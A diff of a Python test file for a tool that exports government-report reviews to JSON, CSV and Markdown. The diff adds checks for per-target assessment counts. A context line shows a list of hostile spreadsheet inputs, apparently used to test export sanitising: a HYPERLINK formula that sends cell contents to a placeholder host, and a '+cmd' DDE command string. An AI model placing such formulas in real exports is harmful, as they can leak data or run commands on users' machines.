@@ -27,7 +27,8 @@ HOSTILE = ['=HYPERLINK("http://example.invalid/?q="&A1,"详情")', "+cmd|' /C ca
 
 def write_review(report: Path, *, verdict: str = "", scores: dict[str, int] | None = None,
                  summary: str = "", confirm: int = 0, dismiss: int = 0,
-                 plans: tuple[str, ...] = (), note: str = "", tag: str = "数据存疑") -> Path:
+                 plans: tuple[str, ...] = (), targets: tuple[str, ...] = (), note: str = "",
+                 tag: str = "数据存疑") -> Path:
     doc = load_document(str(report))
     store = ReviewStore(default_review_path(str(report)))
     review, _ = store.load_or_new(doc, "王审阅")
@@ -41,6 +42,9 @@ def write_review(report: Path, *, verdict: str = "", scores: dict[str, int] | No
     for n, status in enumerate(plans):
         review.set_plan_assessment(Anchor.from_span(doc.text, n * 10, n * 10 + 8),
                                    heading=f"事项{n}", suggested="partial", status=status)
+    for n, said in enumerate(targets):
+        review.set_target_assessment(Anchor.from_span(doc.text, 200 + n * 10, 206 + n * 10),
+                                     indicator=f"指标{n}", suggested="met", verdict=said)
     if note:
         review.add_annotation(doc, 0, 6, tag=tag, note=note)
     for criterion, value in (scores or {}).items():
@@ -64,7 +68,8 @@ def folder(tmp_path: Path) -> dict[str, Path]:
         shutil.copy(seed_path(name), paths[name])
     write_review(paths["guanba-2025"], verdict="revise", scores={"结构完整": 3, "数据翔实": 4},
                  summary="不足部分放在责任之后。\n请调整顺序。", confirm=3, dismiss=1,
-                 plans=("delivered", "delivered", "partial", "no_evidence"))
+                 plans=("delivered", "delivered", "partial", "no_evidence"),
+                 targets=("met", "missed", "no_evidence", "met", "met"))
     write_review(paths["hutiaoxia-2025"], note="待核实", scores={"计划可考核": 2})
     write_review(paths["yanxi-2024"], verdict="good", summary="材料翔实。")
     paths["yanxi-2024"].unlink()
@@ -95,6 +100,7 @@ def test_json_has_one_record_per_report_with_its_review(folder, tmp_path) -> Non
     assert sum(guanba["confirmed"].values()) == 3  # the dismissed one is not counted
     assert guanba["plans"]["delivered"] == 2 and guanba["plans"]["partial"] == 1
     assert guanba["plans"]["no_evidence"] == 1 and guanba["plans"]["carried_over"] == 0
+    assert guanba["targets"] == {"met": 3, "missed": 1, "unclear": 0, "no_evidence": 1}
     assert guanba["summary"] == "不足部分放在责任之后。\n请调整顺序。"
     assert reports["hutiaoxia-2025"]["status"] == "in_progress"
     untouched = reports["baixiang-2024"]
@@ -114,6 +120,8 @@ def test_csv_is_one_row_per_report_with_a_bom(folder, tmp_path) -> None:
     assert row["Status"] == "done" and row["Verdict"] == "needs revision"
     assert row["结构完整"] == "3" and row["数据翔实"] == "4" and row["问题与原因"] == ""
     assert row["Mean score"] == "3.5" and row["Plan: delivered"] == "2"
+    assert (row["Target: met"], row["Target: missed"], row["Target: no figure"]) == \
+        ("3", "1", "1")
     assert sum(int(v) for k, v in row.items() if k.startswith("Confirmed: ")) == 3
     header = next(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
     rubric = [c.name for c in load_vocabulary().criteria]
@@ -146,7 +154,7 @@ def test_markdown_is_a_readable_record(folder, tmp_path) -> None:
     assert "共 4 份报告：已完成 2，进行中 1，未开始 1" in text
     line = next(x for x in text.splitlines() if "guanba-2025.txt" in x)
     assert "关坝镇" in line and "已完成" in line and "需修改" in line and "3.5" in line
-    assert "已落实 2" in line
+    assert "已落实 2" in line and "完成 3 · 未完成 1 · 未见数据 1" in line
     assert "### 关坝镇 2025" in text and "不足部分放在责任之后。\n请调整顺序。" in text
 
 
@@ -260,7 +268,7 @@ def test_export_of_a_folder_is_one_csv_of_every_review(folder, tmp_path, capsys)
     rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
     reviews = [r for r in rows if r["Kind"] == "review"]
     assert sorted(r["Government"] for r in reviews) == ["关坝镇", "烟溪镇", "虎跳峡镇"]
-    assert {r["Kind"] for r in rows} == {"review", "annotation", "flag", "plan"}
+    assert {r["Kind"] for r in rows} == {"review", "annotation", "flag", "plan", "target"}
     assert all(r["File"] for r in rows)
     capsys.readouterr()
 
